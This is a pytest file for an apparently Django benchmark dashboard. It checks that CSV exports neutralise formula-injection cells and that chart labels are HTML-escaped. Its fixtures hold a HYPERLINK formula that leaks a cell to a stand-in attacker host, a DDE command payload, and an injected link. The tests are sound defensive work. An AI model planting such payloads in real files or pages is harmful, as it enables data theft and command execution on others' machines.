"""Labels an Operator types reach files and charts others open (issue 39, probe finding): a compare.csv cell
that starts with = + - @ (or a tab or carriage return) is a formula to a spreadsheet, so it is made inert with a
leading single quote (OWASP, "CSV Injection"); Plotly renders <a href> and other tags in trace names and tick
labels, so the chart data carries labels with & < > as entities (Plotly's convertEntities shows them as the characters,
after it has looked for tags; it knows &amp; &lt; &gt; but not &quot;, which would show as written)."""

import csv
import io
import json
import re

import pytest

from endpoints.bench import compare
from endpoints.bench.models import BenchmarkRun
from endpoints.models import Profile

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
LINK = '<a href="http://evil.example/">click me</a>'


def _runs(labels):
    return [
        BenchmarkRun.objects.create(
            endpoint_name="demo",
            num_prompts=8,
            status="succeeded",
            label=label,
            result={"request_throughput": 2.5, "p99_e2el_ms": -1.0},  # a negative number stays a number
        )
        for label in labels
    ]


@pytest.mark.django_db
def test_compare_csv_cells_starting_a_formula_are_made_inert(as_viewer):
    runs = _runs([*FORMULAS, "\tTAB", "\rCR", "plain label"])
    response = as_viewer.get("/benchmarks/compare.csv?" + "&".join(f"runs={r.pk}" for r in runs))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    setup = rows[0].index("Set-up")
    cells = [row[setup] for row in rows[1:]]
    assert cells == ["'" + f for f in FORMULAS] + ["'\tTAB", "'\rCR", "plain label"]
    p99 = rows[0].index("P99 latency ms")
    assert {row[p99] for row in rows[1:]} == {"-1"}  # numbers are not text: left as they are


def test_to_csv_neutralises_every_text_cell():
    table = compare.compare_rows([])
    table["rows"] = [{key: None for key, _ in compare.COLUMNS} | {"endpoint": "=1+1", "state": "@x", "baseline": 0}]
    [_, row] = list(csv.reader(io.StringIO(compare.to_csv(table))))
    assert row[2] == "'=1+1" and row[3] == "'@x"


def _chart(page: str, element_id: str) -> dict:
    return json.loads(
        re.search(rf'<script id="{element_id}" type="application/json">(.*?)</script>', page, re.DOTALL)[1]
    )


@pytest.mark.django_db
def test_compare_chart_labels_are_html_escaped(as_viewer):
    runs = _runs([LINK, "plain"])
    page = as_viewer.get("/benchmarks/compare?" + "&".join(f"runs={r.pk}" for r in runs)).content.decode()
    labels = _chart(page, "bench-data")["labels"]
    assert labels == [f'#{runs[0].pk} &lt;a href="http://evil.example/"&gt;click me&lt;/a&gt;', f"#{runs[1].pk} plain"]


@pytest.mark.django_db
def test_profile_chart_trace_names_are_html_escaped(as_viewer):
    rows = {"breakdown": [{"category": "matrix multiply", "seconds": 1.0, "share": 1.0}], "top_ops": [], "advice": []}
    one, two = (
        Profile.objects.create(
            endpoint_name="demo", replica_index=0, duration_s=5, status="succeeded", label=label, **rows
        )
        for label in (LINK, "plain")
    )
    for path in (f"/profiles/{one.pk}/", f"/profiles/compare?ids={one.pk},{two.pk}"):
        names = [p["setup"] for p in _chart(as_viewer.get(path).content.decode(), "profile-data")["profiles"]]
        assert names[0] == f'#{one.pk} &lt;a href="http://evil.example/"&gt;click me&lt;/a&gt; (demo)', path
        assert "<a" not in "".join(names)
